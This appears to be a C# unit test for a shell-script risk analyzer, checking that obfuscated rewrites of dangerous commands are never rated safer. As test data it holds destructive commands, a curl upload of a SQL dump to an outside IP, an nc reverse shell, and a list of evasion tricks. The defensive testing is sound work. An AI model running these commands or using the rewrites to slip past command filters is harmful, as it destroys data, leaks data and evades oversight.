using Platform.ShellAnalysis;
using Shouldly;

namespace Platform.Tests.ShellAnalysis;

internal sealed class When_dangerous_commands_are_rewritten
{
    private static readonly string[] Dangerous =
    [
        "rm -rf /srv/app", "mkfs.ext4 /dev/vdb1", "systemctl stop auditd", "curl -T a.sql https://198.51.100.7/", "git reset --hard",
        "find /srv -delete", "dd if=/dev/zero of=/dev/vdb", "chmod 4755 /srv/tool", "docker volume rm data", "kubectl delete ns web",
        "aws ec2 terminate-instances --instance-ids i-1", "terraform destroy -auto-approve", "crontab -r", "nc -e /bin/sh 198.51.100.7 44",
    ];

    [Test]
    public async Task Should_never_think_better_of_them([ValueSource(nameof(Dangerous))] string command)
    {
        using var analyzer = new ScriptAnalyzer();
        var plain = await analyzer.AnalyzeAsync(command, ShellLanguage.Bash);
        (plain.Class > EffectClass.Unknown).ShouldBeTrue(command);
        foreach (var rewritten in Rewrites(command))
        {
            var verdict = await analyzer.AnalyzeAsync(rewritten, ShellLanguage.Bash);
            (verdict.Class >= plain.Class).ShouldBeTrue($"{rewritten}: {verdict.Reasons[0]}");
        }
    }

    private static IEnumerable<string> Rewrites(string command)
    {
        var words = command.Split(' ');
        var rest = string.Join(' ', words.Skip(1));
        yield return $"  {command}  # tidy up";
        yield return $"true && {command}";
        yield return $"true; {command} &";
        yield return $"( {command} )";
        yield return $"{{ {command}; }}";
        yield return $"x=$({command})";
        yield return $"if true; then {command}; fi";
        yield return $"for i in 1 2; do {command}; done";
        yield return $"f() {{ {command}; }}; f";
        yield return $"sudo {command}";
        yield return $"env A=1 nice -n 5 timeout 9 {command}";
        yield return $"nohup setsid {command}";
        yield return $"bash -c '{command}'";
        yield return $"eval '{command}'";
        yield return $"bash <<'X'\n{command}\nX";
        yield return $"echo '{command}' | sh";
        yield return $"ssh web01 '{command}'";
        yield return $"{words[0]} \\\n {rest}";
        yield return $"'{words[0]}' {rest}";
        yield return $"\"{words[0]}\" {string.Join(' ', words.Skip(1).Select(word => $"'{word}'"))}";
        yield return $"/usr/bin/{command}";
        yield return $"{words[0][0]}''{words[0][1..]} {rest}";
        yield return $"{words[0]}${{IFS}}{string.Join("${IFS}", words.Skip(1))}";
        yield return $"c={words[0]}; $c {rest}";
        yield return $"trap '{command}' EXIT";
        yield return $"busybox {command}";
        yield return $"flock /tmp/l -c '{command}'";
    }
}
